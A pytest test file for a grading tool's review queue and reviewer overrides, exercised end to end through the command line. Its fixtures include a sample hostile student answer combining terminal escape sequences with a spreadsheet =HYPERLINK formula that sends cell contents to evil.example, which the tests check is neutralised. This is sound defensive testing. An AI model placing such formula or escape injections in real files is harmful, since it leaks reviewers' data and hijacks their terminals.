"""Tests for grader.review: the review queue (review.csv) and a reviewer's overrides merged into results and exports.

End to end through the command line, as an instructor and a TA use it: results written from the real result
dataclasses, `grader review OUT`, overrides typed into review.csv, `grader export OUT`, then result.json, grades.csv,
the feedback and Gradescope's results.json read back.
"""

from __future__ import annotations

import csv
import io
import json
import os
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path

import pytest
from test_export import make_result

from grader import checks as grader_checks
from grader.cli import main
from grader.evidence import Evidence
from grader.export import classroom_runners
from grader.gradebook import rebuild_gradebook
from grader.jsonio import write_json_atomic
from grader.result import (
    CheckResult,
    Override,
    from_json,
    read_result,
    to_json,
    write_result,
)
from grader.review import (
    MAX_REVIEW_BYTES,
    NO_LONGER_FLAGGED,
    Entry,
    apply_reviews,
    override_result,
)
from grader.rubric import Check

HEADER = "student_id,check_id,check_title,reason,evidence,automatic_points,max_points,override_points,comment,reviewer"
ANSWER = "answer-search-comparison"
ACCURACY_MESSAGE = "claimed val accuracy 0.99 but the grader measured 0.9712 — explain the gap to your instructor"
ANSWER_MESSAGE = ("search_comparison: 12 words (needs 20); marked for manual review — write at least 20 words")
# What a hostile student wrote: an OSC 8 terminal hyperlink, a screen clear, and a spreadsheet formula.
HOSTILE_ANSWER = '"\\e]8;;https://evil.example\\a\\e[2J=HYPERLINK(\\"https://evil.example/?q=\\"&A1,\\"click\\") grid took 30 s"'
HOSTILE_CELL = '"\'=HYPERLINK(""https://evil.example/?q=""&A1,""click"") grid took 30 s"'
PLAIN_ANSWER = "Random search found 0.97 in half the time of the grid"


def flagged_checks(*, suspect: bool = True) -> tuple[CheckResult, ...]:
    """Three checks in rubric order: one passed, one suspect (unless told not), one marked for manual review."""
    return (
        CheckResult("files", "Required files present", "artifacts", 2.0, 2.0, "pass", "visible", "all files there"),
        CheckResult("accuracy-grid", "Best accuracy (grid)", "best_accuracy", 1.0, 5.0, "partial", "visible",
                    ACCURACY_MESSAGE, suspect=suspect),
        CheckResult(ANSWER, "Compare the two searches", "answer_text", 2.0, 4.0, "partial", "visible",
                    ANSWER_MESSAGE, review=True),
    )


def write_student(out: Path, student_id: str, answer_yaml: str, *, suspect: bool = True) -> None:
    """A graded student: result.json, and the grader's copy of the output dir holding answers.yaml."""
    result = make_result(student_id, check_list=flagged_checks(suspect=suspect))
    write_result(out / student_id / "result.json", result)
    outputs = out / student_id / "collected" / "outputs"
    outputs.mkdir(parents=True, exist_ok=True)
    (outputs / "answers.yaml").write_text(f"contract_version: 1\nsearch_comparison: {answer_yaml}\n", "utf-8")


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """A graded batch of two: s001 (suspect accuracy, a hostile answer) and s002 (a plain answer)."""
    root = tmp_path / "out"
    write_student(root, "s001", HOSTILE_ANSWER)
    write_student(root, "s002", f'"{PLAIN_ANSWER}"', suspect=False)
    rebuild_gradebook(root)
    return root


def review(out: Path) -> int:
    return main(["review", str(out), "--rubric", "quick"])


def export(out: Path, fmt: str = "gradescope") -> int:
    return main(["export", str(out), "--format", fmt])


def fill(out: Path, typed: dict[tuple[str, str], tuple[str, str, str]]) -> None:
    """Type override_points, comment and reviewer into review.csv's rows, as a TA does in a spreadsheet."""
    path = out / "review.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    for row in rows:
        key = (row["student_id"], row["check_id"])
        if key in typed:
            row["override_points"], row["comment"], row["reviewer"] = typed[key]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=HEADER.split(","), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), "utf-8")


def answer_check(out: Path, student_id: str = "s001") -> CheckResult:
    result = read_result(out / student_id / "result.json")
    assert result is not None
    return next(c for c in result.checks if c.id == ANSWER)


# ---------------------------------------------------------------- the queue


def test_the_queue_lists_every_review_or_suspect_check_with_the_answer_as_evidence(out: Path,
                                                                                  capsys: pytest.CaptureFixture) -> None:
    assert review(out) == 0
    assert (out / "review.csv").read_text("utf-8") == "\n".join([
        HEADER,
        f"s001,accuracy-grid,Best accuracy (grid),suspect,{ACCURACY_MESSAGE},1,5,,,",
        f"s001,{ANSWER},Compare the two searches,review,{HOSTILE_CELL},2,4,,,",
        f"s002,{ANSWER},Compare the two searches,review,{PLAIN_ANSWER},2,4,,,",
    ]) + "\n"
    captured = capsys.readouterr()
    assert captured.out == f"{out / 'review.csv'}\n"
    assert "3 row(s): 3 new, 0 no longer flagged" in captured.err


def test_a_hostile_answer_is_neutralised_in_the_queue(out: Path) -> None:
    review(out)
    raw = (out / "review.csv").read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw
    cells = {row["student_id"]: row for row in csv.DictReader(io.StringIO(raw.decode("utf-8")))
             if row["check_id"] == ANSWER}
    assert cells["s001"]["evidence"] == "'=HYPERLINK(\"https://evil.example/?q=\"&A1,\"click\") grid took 30 s"


def test_a_check_without_an_answer_key_shows_its_message(out: Path) -> None:
    review(out)
    row = next(csv.DictReader(io.StringIO((out / "review.csv").read_text("utf-8"))))
    assert (row["check_id"], row["evidence"]) == ("accuracy-grid", ACCURACY_MESSAGE)


def test_running_review_again_keeps_what_was_typed_adds_new_rows_and_marks_unflagged_ones(out: Path) -> None:
    review(out)
    fill(out, {("s001", "accuracy-grid"): ("4", "the gap is rounding", "ann"),
               ("s002", ANSWER): ("", "read it twice", "bob")})
    # s001 is regraded: its accuracy check is no longer suspect, and the runtime check now is
    result = read_result(out / "s001" / "result.json")
    assert result is not None
    regraded = (*(replace(c, suspect=False) for c in flagged_checks()),
                CheckResult("runtime", "Finished in time", "runtime", 0.0, 4.0, "fail", "visible", "ran 900 s",
                            suspect=True))
    write_result(out / "s001" / "result.json", replace(result, checks=regraded))
    assert review(out) == 0
    assert (out / "review.csv").read_text("utf-8") == "\n".join([
        HEADER,
        f"s001,{ANSWER},Compare the two searches,review,{HOSTILE_CELL},2,4,,,",
        "s001,runtime,Finished in time,suspect,ran 900 s,0,4,,,",
        f"s002,{ANSWER},Compare the two searches,review,{PLAIN_ANSWER},2,4,,read it twice,bob",
        f"s001,accuracy-grid,Best accuracy (grid),{NO_LONGER_FLAGGED},{ACCURACY_MESSAGE},1,5,4,the gap is rounding,ann",
    ]) + "\n"


def test_a_row_nobody_typed_in_is_dropped_once_its_check_is_no_longer_flagged(out: Path) -> None:
    review(out)
    result = read_result(out / "s001" / "result.json")
    assert result is not None
    write_result(out / "s001" / "result.json", replace(result, checks=flagged_checks(suspect=False)))
    review(out)
    assert [line.split(",")[:2] for line in (out / "review.csv").read_text("utf-8").splitlines()[1:]] == [
        ["s001", ANSWER], ["s002", ANSWER]]


def test_review_refuses_to_overwrite_a_review_file_it_cannot_read(out: Path, capsys: pytest.CaptureFixture) -> None:
    (out / "review.csv").write_bytes(HEADER.encode() + b"\ns001,files,,,,,,1,caf\xe9,ann\n")
    before = (out / "review.csv").read_bytes()
    assert review(out) == 2
    assert capsys.readouterr().err == (f"grader: error: {out / 'review.csv'}:2: not UTF-8 text (byte 0xe9); "
                                       f"save it as UTF-8 CSV; no override was applied\n")
    assert (out / "review.csv").read_bytes() == before


# ---------------------------------------------------------------- the merge


def test_filled_overrides_reach_result_json_gradebook_feedback_and_gradescope(out: Path) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("3.5", "A clear comparison; the numbers are right.", "ann@course")})
    assert export(out) == 0

    check = answer_check(out)
    assert check.override is not None
    assert (check.points, check.automatic_points, check.status) == (3.5, 2.0, "partial")
    assert (check.override.points, check.override.comment, check.override.reviewer, check.override.automatic_status) \
        == (3.5, "A clear comparison; the numbers are right.", "ann@course", "partial")
    at = check.override.at
    assert datetime.strptime(at, "%Y-%m-%dT%H:%M:%SZ")
    result = read_result(out / "s001" / "result.json")
    assert result is not None and (result.score.earned, result.score.possible) == (6.5, 11.0)  # type: ignore[union-attr]
    untouched = read_result(out / "s002" / "result.json")
    assert untouched is not None and untouched.score is not None and untouched.score.earned == 5.0

    grades = (out / "grades.csv").read_text("utf-8").splitlines()
    assert grades[0] == ("student_id,status,score_earned,score_possible,suspect,overrides,test_accuracy_grid,"
                         "test_accuracy_random,run_seconds,message,points_files,points_accuracy-grid,"
                         f"points_{ANSWER}")
    assert grades[1] == "s001,completed,6.5,11.0,True,1,0.9812,0.9755,30.6,tuning.py finished,2.0,1.0,3.5"
    assert grades[2] == "s002,completed,5.0,11.0,False,0,0.9812,0.9755,30.6,tuning.py finished,2.0,1.0,2.0"

    student = (out / "s001" / "feedback.md").read_text("utf-8")
    assert "**Score:** 6.5/11" in student
    assert ("### Compare the two searches\n\npartial credit, 3.5/4 points\n\n" + ANSWER_MESSAGE
            + "\n\nReviewer's comment: A clear comparison; the numbers are right.\n\n") in student
    assert "ann@course" not in student and "automatic" not in student
    instructor = (out / "s001" / "feedback.instructor.md").read_text("utf-8")
    assert ("### Compare the two searches\n\npartial credit, 3.5/4 points\n\n" + ANSWER_MESSAGE
            + f"\n\nPoints set by ann@course at {at}: 3.5/4 (automatic: 2, partial credit)"
            + "\n\nReviewer's comment: A clear comparison; the numbers are right.\n\n") in instructor
    page = (out / "s001" / "feedback.html").read_text("utf-8")
    assert "Reviewer&#x27;s comment: A clear comparison; the numbers are right." in page

    gradescope = json.loads((out / "s001" / "gradescope" / "results.json").read_text("utf-8"))
    assert gradescope["score"] == 6.5
    test = next(t for t in gradescope["tests"] if t["name"] == "Compare the two searches")
    assert (test["score"], test["max_score"], test["status"]) == (3.5, 4.0, "failed")
    assert test["output"] == ANSWER_MESSAGE + "\n\nReviewer's comment: A clear comparison; the numbers are right."

    runners = classroom_runners(result)
    earned = next(t for t in runners["earned"]["tests"] if t["name"] == "Compare the two searches")
    assert earned["score"] == 3.5


def test_full_points_from_a_reviewer_make_the_check_pass_in_the_exports(out: Path) -> None:
    review(out)
    fill(out, {("s001", "accuracy-grid"): ("5", "", "ann")})
    assert export(out) == 0
    gradescope = json.loads((out / "s001" / "gradescope" / "results.json").read_text("utf-8"))
    test = next(t for t in gradescope["tests"] if t["name"] == "Best accuracy (grid)")
    assert (test["score"], test["status"], test["output"]) == (5.0, "passed", ACCURACY_MESSAGE)
    student = (out / "s001" / "feedback.md").read_text("utf-8")
    assert "Flagged for review" not in student  # a reviewer has looked at it


def test_applying_the_same_review_file_twice_changes_nothing(out: Path) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("3.5", "fine", "ann"), ("s002", ANSWER): ("0", "copied", "bob")})
    assert export(out) == 0
    files = [out / "s001" / "result.json", out / "s002" / "result.json", out / "grades.csv",
             out / "s001" / "feedback.md", out / "s002" / "gradescope" / "results.json"]
    before = [f.read_bytes() for f in files]
    stamps = [f.stat().st_mtime_ns for f in files[:4]]
    assert export(out) == 0
    assert review(out) == 0  # the queue written again holds the same typed cells
    assert export(out) == 0
    assert [f.read_bytes() for f in files] == before
    assert [f.stat().st_mtime_ns for f in files[:4]] == stamps  # not even rewritten
    assert apply_reviews(out).changed == ()


def test_removing_an_override_restores_the_automatic_points(out: Path) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("4", "good", "ann")})
    export(out)
    original = read_result(out / "s002" / "result.json")
    fill(out, {("s001", ANSWER): ("", "", "")})
    assert export(out) == 0
    check = answer_check(out)
    assert (check.points, check.status, check.automatic_points, check.override) == (2.0, "partial", None, None)
    result = read_result(out / "s001" / "result.json")
    assert result == make_result("s001", check_list=flagged_checks())
    assert read_result(out / "s002" / "result.json") == original
    assert (out / "grades.csv").read_text("utf-8").splitlines()[1].startswith("s001,completed,5.0,11.0,True,0,")
    assert "Reviewer" not in (out / "s001" / "feedback.md").read_text("utf-8")


def test_a_changed_override_keeps_the_automatic_points_and_status_of_the_grader(out: Path) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("4", "good", "ann")})
    export(out)
    fill(out, {("s001", ANSWER): ("1", "on second reading", "bob")})
    export(out)
    check = answer_check(out)
    assert (check.points, check.status, check.automatic_points) == (1.0, "partial", 2.0)
    assert check.override is not None and (check.override.reviewer, check.override.automatic_status) == ("bob", "partial")


def test_bad_rows_each_get_one_line_and_the_other_rows_still_apply(out: Path, capsys: pytest.CaptureFixture) -> None:
    review(out)
    fill(out, {("s001", "accuracy-grid"): ("3", "earlier override", "ann")})
    export(out)
    path = out / "review.csv"
    path.write_text("\n".join([
        HEADER,
        "s001,accuracy-grid,,,,,,three,,ann",
        f"s001,{ANSWER},,,,,,-1,,ann",
        f"s002,{ANSWER},,,,,,4.5,,ann",
        "s999,files,,,,,,1,,ann",
        "s002,no-such-check,,,,,,1,,ann",
        "s002,files,,,,,,NaN,,ann",
        "s002,files,,,,,,1,,ann",
        "s002,accuracy-grid,,,,,,2.5,\"a comment\non two lines\",ann",
        f"s002,{ANSWER},,,,,,1,,bob",
    ]) + "\n", "utf-8")
    capsys.readouterr()
    assert export(out) == 2
    err = capsys.readouterr().err.splitlines()
    assert err == [
        f"{path}:2: override_points 'three' is not a number for s001/accuracy-grid; its points stay as they were",
        f"{path}:3: override_points -1 is negative (0 to 4) for s001/{ANSWER}; its points stay as they were",
        f"{path}:4: override_points 4.5 is above the check's 4 points for s002/{ANSWER}; its points stay as they were",
        f"{path}:5: there is no result for student 's999'",
        f"{path}:6: student 's002' has no check 'no-such-check'",
        f"{path}:7: override_points 'NaN' is not a number for s002/files; its points stay as they were",
        f"{path}:8: a second row for s002/files (the first is line 7); only the first is applied",
        f"{path}:11: a second row for s002/{ANSWER} (the first is line 4); only the first is applied",
        (f"grader: error: 8 problem(s) in {path} (listed above): those rows were not applied; every other override "
         f"and every export was"),
    ]
    s001 = read_result(out / "s001" / "result.json")
    assert s001 is not None
    points = {c.id: c.points for c in s001.checks}
    assert points == {"files": 2.0, "accuracy-grid": 3.0, ANSWER: 2.0}  # the earlier override stands
    s002 = read_result(out / "s002" / "result.json")
    assert s002 is not None
    assert {c.id: c.points for c in s002.checks} == {"files": 2.0, "accuracy-grid": 2.5, ANSWER: 2.0}
    assert next(c for c in s002.checks if c.id == "accuracy-grid").override.comment == "a comment on two lines"  # type: ignore[union-attr]
    assert json.loads((out / "s002" / "gradescope" / "results.json").read_text("utf-8"))["score"] == 6.5


def sparse_5gb(path: Path) -> None:
    with open(path, "wb") as fh:
        fh.truncate(5 * 2**30)


def symlink_to_good_file(path: Path) -> None:
    target = path.with_name("elsewhere.csv")
    target.write_text(f"{HEADER}\ns001,files,,,,,,0,,ann\n", "utf-8")
    path.symlink_to(target)


@pytest.mark.parametrize("make, why", [
    (lambda p: p.write_bytes(HEADER.encode() + b"\ns001,files,,,,,,0,d\xe9j\xe0 vu,ann\n"),
     "2: not UTF-8 text (byte 0xe9); save it as UTF-8 CSV"),
    (sparse_5gb, f"file is too large (5120.0 MiB; the limit is {MAX_REVIEW_BYTES // 2**20} MiB)"),
    (symlink_to_good_file, "is a symbolic link, not a regular file"),
    (lambda p: os.mkfifo(p), "not a regular file"),
    (lambda p: p.write_text("student_id,check_id,points\ns001,files,0\n", "utf-8"),
     "1: the header lacks the column(s) override_points, comment, reviewer"),
    (lambda p: p.write_text("", "utf-8"), f"the file is empty (expected the header {HEADER})"),
], ids=["not-utf8", "5-GB", "symlink", "fifo", "missing-columns", "empty"])
def test_a_review_file_that_cannot_be_read_is_one_line_and_changes_nothing(out: Path, make, why: str,
                                                                            capsys: pytest.CaptureFixture) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("3", "kept", "ann")})
    export(out)
    before = (out / "s001" / "result.json").read_bytes()
    (out / "review.csv").unlink()
    make(out / "review.csv")
    capsys.readouterr()
    assert export(out) == 2
    sep = "" if why[0].isdigit() else " "
    assert capsys.readouterr().err.splitlines()[0] == f"{out / 'review.csv'}:{sep}{why}; no override was applied"
    assert (out / "s001" / "result.json").read_bytes() == before  # the override applied earlier is not lost
    assert json.loads((out / "s001" / "gradescope" / "results.json").read_text("utf-8"))["score"] == 6.0


def test_no_review_file_leaves_every_result_as_graded(out: Path) -> None:
    before = (out / "s001" / "result.json").read_bytes()
    assert export(out) == 0
    assert (out / "s001" / "result.json").read_bytes() == before
    assert not (out / "review.csv").exists()


def test_a_ta_comment_that_looks_like_a_formula_survives_review_reruns_unchanged(out: Path) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("1", "-1 for the missing units", "ann")})
    export(out)
    review(out)  # the queue written again quotes the comment for spreadsheets
    assert ",1,'-1 for the missing units,ann\n" in (out / "review.csv").read_text("utf-8")
    before = (out / "s001" / "result.json").read_bytes()
    assert export(out) == 0
    assert (out / "s001" / "result.json").read_bytes() == before
    assert answer_check(out).override.comment == "-1 for the missing units"  # type: ignore[union-attr]


# ---------------------------------------------------------------- the pieces


def test_override_result_is_pure_and_restores_exactly() -> None:
    result = make_result("s001", check_list=flagged_checks())
    stamp = "2026-12-01T10:00:00Z"
    overridden = override_result(result, {ANSWER: Entry(4.0, "ok", "ann")}, at=stamp)
    assert overridden == override_result(result, {ANSWER: Entry(4.0, "ok", "ann")}, at=stamp)
    check = overridden.checks[2]
    assert (check.points, check.status, check.automatic_points) == (4.0, "pass", 2.0)
    assert check.override == Override(4.0, "ok", "ann", stamp, "partial")
    assert override_result(overridden, {ANSWER: Entry(4.0, "ok", "ann")}, at="2027-01-01T00:00:00Z") is overridden
    assert override_result(overridden, {}) == result


def test_an_override_round_trips_through_result_json_and_an_old_result_still_loads() -> None:
    result = override_result(make_result("s001", check_list=flagged_checks()),
                             {ANSWER: Entry(3.0, "c", "r")}, at="2026-12-01T10:00:00Z")
    data = to_json(result)
    assert data["checks"][2]["automatic_points"] == 2.0
    assert data["checks"][2]["override"] == {"points": 3.0, "comment": "c", "reviewer": "r",
                                             "at": "2026-12-01T10:00:00Z", "automatic_status": "partial"}
    assert data["checks"][2]["review"] is True
    assert from_json(data) == result
    old = to_json(make_result("s002"))
    for check in old["checks"]:
        assert "review" not in check and "override" not in check and "automatic_points" not in check
    loaded = from_json(old)
    assert all(c.review is False and c.override is None and c.automatic_points is None for c in loaded.checks)


def test_manual_review_puts_an_answer_text_check_in_the_queue_whatever_its_points() -> None:
    params = {"key": "search_comparison", "min_words": 3, "manual_review": True}
    check = Check(ANSWER, "answer_text", 4.0, "Compare", params=params)
    full = grader_checks.run_check(check, Evidence(Path("."), answers={"search_comparison": "grid was slower here"}))
    assert (full.points, full.review) == (4.0, True)
    unanswered = grader_checks.run_check(check, Evidence(Path("."), answers={"search_comparison": None}))
    assert (unanswered.points, unanswered.review) == (0.0, True)
    off = grader_checks.run_check(replace(check, params={**params, "manual_review": False}),
                                  Evidence(Path("."), answers={"search_comparison": "grid was slower here"}))
    assert off.review is False


def test_a_regraded_result_gets_its_override_again(out: Path) -> None:
    review(out)
    fill(out, {("s001", ANSWER): ("3", "", "ann")})
    export(out)
    leftovers = [p.name for p in (out / "s001").iterdir() if p.name.startswith(".")]
    assert leftovers == []  # no temp file left behind by the atomic writes
    write_json_atomic(out / "s001" / "result.json", to_json(make_result("s001", check_list=flagged_checks())))
    assert export(out) == 0
    assert answer_check(out).points == 3.0  # a regraded result gets the override again
    assert datetime.now(timezone.utc) >= datetime.strptime(answer_check(out).override.at,  # type: ignore[union-attr]
                                                            "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc)


def test_grade_merges_the_overrides_into_a_regraded_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A submission without an entry point is graded in a second (nothing runs), then regraded with --force: the
    override typed in between is applied to the new result, the gradebook and the feedback at the end of the batch."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("KERAS_HOME", str(tmp_path / ".keras"))
    subs, out = tmp_path / "subs", tmp_path / "out"
    (subs / "s001").mkdir(parents=True)
    (subs / "s001" / "notes.txt").write_text("no entry point here\n", "utf-8")
    grade = ["grade", str(subs), "--out", str(out), "--gpus", "none", "--rubric", "quick"]
    assert main(grade) == 0
    (out / "review.csv").write_text(f"{HEADER}\ns001,{ANSWER},,,,,,3,kind words,ann\n", "utf-8")
    assert main([*grade, "--force"]) == 0
    check = answer_check(out)
    assert (check.points, check.automatic_points) == (3.0, 0.0)
    result = read_result(out / "s001" / "result.json")
    assert result is not None and result.score is not None and result.score.earned == 3.0
    assert (out / "grades.csv").read_text("utf-8").splitlines()[1].startswith("s001,invalid_submission,3.0,100.0,False,1,")
    assert "Reviewer's comment: kind words" in (out / "s001" / "feedback.md").read_text("utf-8")


def test_the_answer_comes_from_the_notebook_cell_when_there_is_no_answers_file_and_never_through_a_link(
        out: Path) -> None:
    (out / "s002" / "collected" / "outputs" / "answers.yaml").unlink()
    notebook = out / "s002" / "collected" / "notebook" / "executed.ipynb"
    notebook.parent.mkdir(parents=True)
    notebook.write_text(json.dumps({"cells": [{
        "cell_type": "code", "metadata": {"tags": ["answers"]}, "outputs": [], "execution_count": None,
        "source": "ANSWERS = {'search_comparison': 'grid was slower, from the notebook'}"}],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), "utf-8")
    secret = out / "secret.yaml"
    secret.write_text('contract_version: 1\nsearch_comparison: "another student\'s answer"\n', "utf-8")
    answers = out / "s001" / "collected" / "outputs" / "answers.yaml"
    answers.unlink()
    answers.symlink_to(secret)
    review(out)
    rows = {row["student_id"]: row["evidence"] for row in csv.DictReader(io.StringIO(
        (out / "review.csv").read_text("utf-8"))) if row["check_id"] == ANSWER}
    assert rows == {"s001": ANSWER_MESSAGE, "s002": "grid was slower, from the notebook"}
